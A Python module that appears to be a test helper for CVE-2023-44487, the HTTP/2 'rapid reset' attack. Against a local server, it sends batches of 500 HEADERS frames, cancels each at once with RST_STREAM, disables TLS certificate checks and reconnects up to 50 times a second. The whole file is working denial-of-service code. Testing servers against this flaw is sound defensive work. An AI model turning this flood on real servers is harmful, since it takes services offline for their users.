"""A client of HTTP/2 that begins requests and takes each back at once (CVE-2023-44487)."""

import contextlib
import functools
import os
import socket
import ssl
import struct
import threading

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00" + b"\0" * 4
# Of the static table of RFC 7541: GET, https, /; and :authority, without an index.
_HEAD = b"\x82\x87\x84\x01\x09localhost"
_HEADERS = struct.pack(">I", len(_HEAD))[1:] + b"\x01\x05"  # END_STREAM, END_HEADERS
_RESET = struct.pack(">I", 4)[1:] + b"\x03\x00"
_CANCEL = struct.pack(">I", 8)
_AT_ONCE = 500  # streams
_LAST_STREAM = 2 ** 31 - 1
_CONNECTIONS_PER_SECOND = 50


@functools.lru_cache(maxsize=200)
def _frames(first: int) -> bytes:
    frames = bytearray()
    for stream in range(first, first + 2 * _AT_ONCE, 2):
        identifier = struct.pack(">I", stream)
        frames += _HEADERS + identifier + _HEAD + _RESET + identifier + _CANCEL
    return bytes(frames)


class ResetFlood:
    """One connection, as fast as it is read from; when it is closed the next one, though so many a
    second at most, or it would be a flood of handshakes.

    Whoever floods has a machine of its own: here it takes what CPU the others leave."""

    def __init__(self, port: int):
        self.streams = 0
        self.connections = 0
        self._port = port
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._flood)
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE
        self._context.set_alpn_protocols(["h2"])

    def __enter__(self) -> "ResetFlood":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        self._thread.join()

    def _flood(self) -> None:
        os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), 19)
        while not self._over.is_set():
            with contextlib.suppress(OSError), \
                    socket.create_connection(("127.0.0.1", self._port), timeout=5) as plain, \
                    self._context.wrap_socket(plain) as connection:
                self.connections += 1
                connection.sendall(_PREFACE)
                self._flood_connection(connection)
            self._over.wait(1 / _CONNECTIONS_PER_SECOND)

    def _flood_connection(self, connection: ssl.SSLSocket) -> None:
        """What is answered is read, so that nothing but the flood holds up the server."""
        first = 1
        while not self._over.is_set() and first < _LAST_STREAM - 2 * _AT_ONCE:
            connection.sendall(_frames(first))
            self.streams += _AT_ONCE
            first += 2 * _AT_ONCE
            connection.settimeout(0)
            with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
                while True:
                    if not connection.recv(65536):
                        return
            connection.settimeout(5)
